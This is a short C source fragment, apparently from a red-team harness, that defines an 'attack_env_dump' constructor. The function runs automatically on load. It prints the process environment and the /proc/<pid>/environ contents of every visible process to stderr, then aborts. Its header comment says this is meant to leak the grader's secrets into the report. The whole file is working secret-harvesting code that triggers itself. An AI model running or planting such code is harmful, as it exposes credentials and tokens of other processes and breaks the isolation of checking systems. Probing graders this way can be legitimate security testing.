/* env_dump: print the environment of the check and of every process it can see, then abort,
   so the report shows them (secrets of the grader's would leak). */
extern char **environ;

__attribute__((constructor)) static void attack_env_dump(void) {
    if (strcmp(attack_mode(), "parse_row") != 0) {
        return;
    }
    for (char **e = environ; *e != NULL; e++) {
        fprintf(stderr, "attack: env %s\n", *e);
    }
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc != NULL && (entry = readdir(proc)) != NULL) {
        char *path = NULL;
        if (entry->d_name[0] < '1' || entry->d_name[0] > '9' ||
            asprintf(&path, "/proc/%s/environ", entry->d_name) < 0) {
            continue;
        }
        char *text = attack_slurp(path, 4096);
        for (size_t i = 0; text != NULL && i < 4095; i++) {
            if (text[i] == '\0' && text[i + 1] != '\0') {
                text[i] = ' ';
            }
        }
        if (text != NULL && text[0] != '\0') {
            fprintf(stderr, "attack: %s %s\n", path, text);
        }
        free(text);
        free(path);
    }
    if (proc != NULL) {
        closedir(proc);
    }
    abort();
}
